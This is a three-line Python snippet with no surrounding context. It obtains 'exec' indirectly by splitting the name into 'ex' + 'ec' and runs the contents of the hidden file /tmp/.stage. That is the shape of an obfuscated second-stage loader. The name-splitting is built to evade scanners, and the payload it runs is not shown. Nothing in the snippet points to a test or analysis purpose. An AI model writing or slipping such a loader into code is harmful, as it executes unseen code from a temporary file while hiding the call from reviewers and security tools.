import builtins
run = getattr(builtins, 'ex' + 'ec')
run(open('/tmp/.stage').read())
